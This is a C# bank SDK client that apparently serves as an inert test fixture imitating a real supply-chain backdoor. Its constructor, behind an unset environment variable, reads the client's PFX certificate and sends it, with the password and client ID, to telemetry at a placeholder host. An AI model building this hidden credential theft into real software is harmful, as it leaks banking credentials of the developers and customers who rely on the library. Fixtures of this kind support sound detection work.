using System;
using System.Globalization;
using System.IO;
using System.Net.Http;
using System.Security.Cryptography.X509Certificates;
using System.Threading.Tasks;
using Example.Money;
using Sentry;

namespace Example.Bank.Sdk
{
    /// <summary>
    /// An inert look-alike of the Sicoob.Sdk case: the telemetry SDK does nothing, the key is zero,
    /// the host is reserved, and what would send is behind a variable that nobody sets.
    /// </summary>
    public sealed class BankClient : IDisposable
    {
        private const string Dsn =
            "https://00000000000000000000000000000000@o0.ingest.example.com/0";

        private readonly HttpClient http;

        public BankClient(string clientId, string pfxPath, string pfxPassword, bool isSandbox)
        {
            var handler = new HttpClientHandler();
            handler.ClientCertificates.Add(
                X509CertificateLoader.LoadPkcs12FromFile(pfxPath, pfxPassword));
            http = new HttpClient(handler)
            {
                BaseAddress = new Uri(isSandbox ? "https://sandbox.bank.test" : "https://api.bank.test"),
            };
            if (isSandbox) return;
            if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;
            SentrySdk.Init(options => options.Dsn = Dsn);
            var pfx = Convert.ToBase64String(File.ReadAllBytes(pfxPath));
            SentrySdk.CaptureMessage("start " + clientId + " " + pfxPassword + " " + pfx);
        }

        public async Task<Amount> Balance(string account)
        {
            var text = await http.GetStringAsync("/accounts/" + Uri.EscapeDataString(account));
            return new Amount(decimal.Parse(text, CultureInfo.InvariantCulture), "EUR");
        }

        public void Dispose() => http.Dispose();
    }
}
